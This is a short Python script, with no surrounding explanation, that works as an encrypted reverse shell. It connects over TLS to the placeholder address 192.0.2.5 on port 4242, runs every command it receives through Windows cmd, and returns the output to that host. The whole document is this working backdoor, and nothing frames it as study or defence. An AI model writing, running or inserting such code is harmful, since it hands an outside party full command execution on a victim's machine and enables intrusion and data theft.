import ssl,socket,subprocess
c=ssl.create_default_context()
s=c.wrap_socket(socket.create_connection(('192.0.2.5',4242)),server_hostname='x')
while True:
    d=s.read(1024).decode()
    p=subprocess.run(['cmd','/c',d],capture_output=True)
    s.write(p.stdout)
